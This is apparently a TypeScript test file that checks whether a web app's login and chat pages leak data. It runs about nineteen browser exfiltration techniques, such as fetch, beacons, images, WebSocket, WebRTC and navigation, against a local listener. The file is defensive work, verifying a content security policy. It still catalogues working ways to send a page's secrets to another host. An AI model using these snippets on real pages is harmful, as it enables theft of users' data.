import type { AddressInfo } from 'node:net';
import { createServer as createHTTP, type Server } from 'node:http';
import { createSocket, type Socket } from 'node:dgram';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { Box } from './box.ts';
import { launch } from './browser.ts';
import { openSession } from './people.ts';

/** Whoever would like to hear what a page knows: counts each connection over TCP and each packet over UDP. */
class Sink {
  heard: string[] = [];
  readonly #tcp: Server;
  readonly #udp: Socket;

  private constructor(tcp: Server, udp: Socket) {
    this.#tcp = tcp;
    this.#udp = udp;
    tcp.on('connection', () => this.heard.push('a connection'));
    tcp.on('request', (request, answer) => {
      this.heard.push(`${request.method} ${request.url}`);
      answer.setHeader('access-control-allow-origin', '*');
      answer.end('heard');
    });
    udp.on('message', () => this.heard.push('a packet'));
  }

  static async open(): Promise<Sink> {
    const tcp = createHTTP();
    await new Promise<void>((resolve) => tcp.listen(0, '127.0.0.1', resolve));
    const udp = createSocket('udp4');
    const { port } = tcp.address() as AddressInfo;
    await new Promise<void>((resolve) => udp.bind(port, '127.0.0.1', resolve));
    return new Sink(tcp, udp);
  }

  /** Another origin than the box, on this machine. */
  get host(): string {
    return `127.0.0.1:${(this.#tcp.address() as AddressInfo).port}`;
  }

  async close(): Promise<void> {
    this.#tcp.closeAllConnections();
    await new Promise((resolve) => this.#tcp.close(resolve));
    await new Promise<void>((resolve) => this.#udp.close(resolve));
  }
}

/** Ways in which a script could carry something out of a page. Each runs in the page and is given the sink. */
const ways: Record<string, (host: string) => unknown> = {
  fetch: (host) => void fetch(`http://${host}/?secret`, { mode: 'no-cors' }),
  'XMLHttpRequest': (host) => {
    const request = new XMLHttpRequest();
    request.open('POST', `http://${host}/`);
    request.send('secret');
  },
  beacon: (host) => navigator.sendBeacon(`http://${host}/`, 'secret'),
  picture: (host) => (new Image().src = `http://${host}/?secret`),
  script: (host) => document.head.append(Object.assign(document.createElement('script'), { src: `http://${host}/?secret` })),
  'style sheet': (host) => document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: `http://${host}/?secret` })),
  font: (host) => void new FontFace('secret', `url(http://${host}/?secret)`).load().catch(() => undefined),
  frame: (host) => document.body.append(Object.assign(document.createElement('iframe'), { src: `http://${host}/?secret` })),
  form: (host) => {
    const form = Object.assign(document.createElement('form'), { action: `http://${host}/`, method: 'post' });
    document.body.append(form);
    form.submit();
  },
  prefetch: (host) => document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: `http://${host}/?secret` })),
  preconnect: (host) => document.head.append(Object.assign(document.createElement('link'), { rel: 'preconnect', href: `http://${host}` })),
  WebSocket: (host) => void new WebSocket(`ws://${host}/?secret`),
  EventSource: (host) => void new EventSource(`http://${host}/?secret`),
  WebRTC: async (host) => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${host}` }] });
    peer.createDataChannel('secret');
    await peer.setLocalDescription(await peer.createOffer());
  },
  video: (host) => document.body.append(Object.assign(document.createElement('video'), { src: `http://${host}/?secret`, preload: 'auto' })),
  'style of an element': (host) => document.body.append(Object.assign(document.createElement('p'), { style: `background: url(http://${host}/?secret)` })),
  ping: (host) => {
    const link = Object.assign(document.createElement('a'), { href: '#here', ping: `http://${host}/?secret` });
    document.body.append(link);
    link.click();
  },
  window: (host) => void window.open(`http://${host}/?secret`),
  navigation: (host) => void (location.href = `http://${host}/?secret`),
};

const patience = (ms: number): Promise<void> => new Promise((resolve) => setTimeout(resolve, ms));

describe('Out of a page', () => {
  let box: Box;
  let browser: Browser;
  let sink: Sink;
  let session: string;

  beforeAll(async () => {
    box = await Box.start();
    browser = await launch();
    session = await openSession(box);
  });
  afterAll(async () => {
    await browser?.close();
    await box?.remove();
  });
  beforeEach(async () => {
    sink = await Sink.open();
    return () => sink.close();
  });

  /** Tries each way in a page of its own and gives those by which the sink heard something. */
  async function leaks(path: string, prepare: (page: Page) => Promise<void> = async () => {}): Promise<string[]> {
    const found: string[] = [];
    for (const [name, way] of Object.entries(ways)) {
      const context = await browser.newContext();
      const page = await context.newPage();
      await prepare(page);
      await page.goto(box.url + path, { waitUntil: 'load' });
      sink.heard = [];
      // A navigation that is held back may keep the page from ever answering.
      await Promise.race([page.evaluate(way, sink.host).catch(() => undefined), patience(500)]);
      for (let waited = 0; waited < 600 && sink.heard.length === 0; waited += 50) await patience(50);
      if (sink.heard.length > 0) found.push(name);
      await context.close();
    }
    return found;
  }

  test.each([['of the host', () => '/login'], ['of a participant', () => `/chat?s=${session}`]] as const)('%s there is no way', async (_, path) => {
    expect(await leaks(path())).toEqual([]);
  }, 120_000);

  test('there are ways where the page comes without its headers', async () => {
    const found = await leaks('/login', (page) =>
      page.route(`${box.url}/login`, async (route) => {
        const answer = await route.fetch();
        const { 'content-security-policy': _, 'connection-allowlist': __, ...headers } = answer.headers();
        await route.fulfill({ response: answer, headers });
      }),
    );
    // What only a browser with a network does, or only in some versions, may be missing; the rest must show that the sink hears.
    expect(found.length).toBeGreaterThanOrEqual(14);
    expect(found).toEqual(expect.arrayContaining(['fetch', 'picture', 'WebSocket', 'WebRTC', 'navigation']));
  }, 120_000);
});
